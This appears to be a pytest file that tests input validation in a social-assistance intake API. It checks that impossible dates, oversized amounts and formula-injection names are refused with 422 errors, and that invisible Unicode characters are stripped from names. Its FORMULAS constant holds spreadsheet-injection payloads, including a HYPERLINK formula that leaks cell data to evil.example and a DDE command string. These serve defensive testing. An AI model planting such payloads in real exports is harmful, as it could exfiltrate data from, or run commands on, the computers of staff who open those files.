"""Bounded input at intake's door (issue 17): instants and dates within the years a record can have, declared
amounts within range, names that are names. Each refusal is a 422 naming the field, and changes nothing.

- Finding 8: a provincial warning `raised_at` in year 1 or 9999 was a 500 (its UTC form is year 0) or accepted.
- Finding 10 and 15: formulas were accepted as names (and reached finance's spreadsheet); invisible characters that
  reorder or hide a name are removed.
"""

from __future__ import annotations

import uuid
from datetime import UTC, date, datetime
from typing import Any

import pytest
from sqlalchemy import func, select

from libs.contracts.events.casework import EntitlementStatus
from libs.contracts.staff import StaffRole
from services.intake.application.models import Application
from services.intake.lead.models import Lead
from services.intake.local_figures.models import ProcedureRule
from services.intake.warning.models import ProvinceWarning
from tests.intake.support import IntakeApi, application_body, fresh_id, member, new_village, staff
from tests.intake.test_province_warnings import entitlement, fresh_county, province, warning

APPS = "/api/v1/intake/applications"
LEADS = "/api/v1/intake/leads"
WARNINGS = "/api/v1/province/warnings"
RULES = "/api/v1/intake/procedure-rules"

IMPOSSIBLE_INSTANTS = ("0001-01-01T00:00:00+08:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00")
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1")
# A right-to-left override, a zero-width space, a byte-order mark: invisible, they make a name read, sort and match
# differently on every screen.
HIDDEN = "\u202e\u200b\ufeff"


OBLIGOR = fresh_id(date(1980, 8, 8))


def _locs(reply: Any) -> list[list[Any]]:
    return [e["loc"] for e in reply.json()["errors"]]


async def _warnings_stored(api: IntakeApi, warning_id: str) -> int:
    async with api.db.sessions() as s:
        return int(await s.scalar(select(func.count()).where(ProvinceWarning.warning_id == warning_id)) or 0)


async def _leads_of(api: IntakeApi, village: str) -> int:
    async with api.db.sessions() as s:
        return int(await s.scalar(select(func.count()).where(Lead.region_code == village)) or 0)


# ---- finding 8: raised_at ------------------------------------------------------------------------------------


@pytest.mark.parametrize("raised_at", IMPOSSIBLE_INSTANTS)
async def test_a_warning_raised_in_year_1_or_9999_is_a_422_and_stores_nothing(api: IntakeApi, raised_at: str) -> None:
    village = new_village(fresh_county())
    person = fresh_id(date(1960, 1, 1))
    household_id = f"hh-{uuid.uuid4()}"
    # About a recipient (a review would be requested) and about anyone else (a lead would be made).
    await entitlement(api, household_id, village, [person], EntitlementStatus.ACTIVE, datetime.now(UTC))
    for about in (person, fresh_id(date(1970, 5, 5))):
        body = warning(village, about, raised_at=raised_at)
        reply = await api.post(WARNINGS, province(), body)
        assert reply.status_code == 422, reply.text
        assert reply.headers["content-type"].startswith("application/problem+json")
        assert _locs(reply) == [["body", "raised_at"]]
        assert await _warnings_stored(api, body["warning_id"]) == 0
    assert await _leads_of(api, village) == 0
    assert await api.outbox_events(f"household/{household_id}") == []
    # The bounds a record can have are accepted.
    for edge in ("1970-01-01T00:00:00Z", "2099-12-31T23:59:59+08:00"):
        answer = await api.post(WARNINGS, province(), warning(village, person, raised_at=edge))
        assert answer.status_code == 202, answer.text


# ---- findings 10 and 15: names ---------------------------------------------------------------------------------


async def test_a_warning_naming_a_formula_is_a_422_and_stores_nothing(api: IntakeApi) -> None:
    village = new_village(fresh_county())
    for formula in FORMULAS:
        person = {"id_number": fresh_id(date(1980, 8, 8)), "name": formula}
        body = warning(village, fresh_id(date(1970, 5, 5)), person=person)
        reply = await api.post(WARNINGS, province(), body)
        assert reply.status_code == 422, reply.text
        assert _locs(reply) == [["body", "person", "name"]]
        assert await _warnings_stored(api, body["warning_id"]) == 0
    assert await _leads_of(api, village) == 0


async def test_an_application_naming_a_formula_is_a_422_and_stores_nothing(api: IntakeApi) -> None:
    village = new_village()
    filer = staff(StaffRole.township_officer, village[:9])
    head = fresh_id(date(1975, 3, 14))
    for formula in FORMULAS:
        refusals: list[tuple[dict[str, Any], list[Any]]] = [
            (application_body(village, members=[member(head, formula)]), ["body", "members", 0, "name"]),
            (
                application_body(
                    village,
                    members=[member(head, "王建国")],
                    obligors=[{"id_number": OBLIGOR, "name": formula, "relation": "子女", "support_monthly": "100.00"}],
                ),
                ["body", "obligors", 0, "name"],
            ),
            (
                application_body(
                    village,
                    members=[member(head, "王建国")],
                    channel="proxy",
                    proxy={"name": formula, "id_number": fresh_id(date(1980, 8, 8)), "relation": "邻居"},
                ),
                ["body", "proxy", "name"],
            ),
        ]
        for body, loc in refusals:
            reply = await api.post(APPS, filer, body)
            assert reply.status_code == 422, reply.text
            assert loc in _locs(reply)
    async with api.db.sessions() as s:
        assert await s.scalar(select(func.count()).where(Application.region_code == village)) == 0


async def test_invisible_characters_are_removed_from_names_and_text(api: IntakeApi) -> None:
    village = new_village()
    head = fresh_id(date(1975, 3, 14))
    body = application_body(village, members=[member(head, f"王{HIDDEN}建国")], note=f"备注{HIDDEN}一")
    created = await api.post(APPS, staff(StaffRole.township_officer, village[:9]), body)
    assert created.status_code == 201, created.text
    assert created.json()["applicant_name_full"] == "王建国"
    assert [m["name"] for m in created.json()["members"]] == ["王建国"]

    lead = {
        "region_code": village,
        "person": {"name": f"赵{HIDDEN}大海", "id_number": fresh_id(date(1962, 4, 9))},
        "kind": "serious_illness",
        "detail": f"入户走访发现{HIDDEN}：户主重病住院",
    }
    referred = await api.post(LEADS, staff(StaffRole.village_assistant, village), lead)
    assert referred.status_code == 201, referred.text
    assert (referred.json()["contact"]["name"], referred.json()["detail"]) == ("赵大海", "入户走访发现：户主重病住院")


async def test_a_referral_naming_a_formula_is_a_422_and_stores_nothing(api: IntakeApi) -> None:
    village = new_village()
    for formula in FORMULAS:
        body = {
            "region_code": village,
            "person": {"name": formula, "id_number": fresh_id(date(1962, 4, 9))},
            "kind": "serious_illness",
            "detail": "入户走访发现：户主重病住院",
        }
        reply = await api.post(LEADS, staff(StaffRole.village_assistant, village), body)
        assert reply.status_code == 422, reply.text
        assert _locs(reply) == [["body", "person", "name"]]
    assert await _leads_of(api, village) == 0


# ---- declared amounts and dates of the staff API ----------------------------------------------------------------


async def test_a_declared_figure_beyond_range_is_a_422_and_stores_nothing(api: IntakeApi) -> None:
    village = new_village()
    head = fresh_id(date(1975, 3, 14))
    income = [{"member_id_number": head, "kind": "wages", "amount_12_months": "999999999999999.99"}]
    body = application_body(village, members=[member(head, "王建国")], income=income)
    reply = await api.post(APPS, staff(StaffRole.township_officer, village[:9]), body)
    assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling"), reply.text
    assert _locs(reply) == [["body", "income", 0, "amount_12_months"]]
    async with api.db.sessions() as s:
        assert await s.scalar(select(func.count()).where(Application.region_code == village)) == 0


async def test_dates_of_the_staff_api_are_bounded(api: IntakeApi) -> None:
    county = fresh_county()
    officer = staff(StaffRole.county_officer, county)
    for day in ("0001-01-01", "9999-12-31"):
        rule = {"region_prefix": county, "effective_from": day, "decision_days": 20, "extended_days": 30}
        reply = await api.post(RULES, officer, rule)
        assert reply.status_code == 422, reply.text
        assert _locs(reply) == [["body", "effective_from"]]
        in_force = await api.get(f"{RULES}/in-force", officer, {"region_code": county, "on": day})
        assert _locs(in_force) == [["query", "on"]]
        listed = await api.get(APPS, officer, {"region_code": county, "due_before": day})
        assert _locs(listed) == [["query", "due_before"]]
    async with api.db.sessions() as s:
        assert await s.scalar(select(func.count()).where(ProcedureRule.region_prefix == county)) == 0
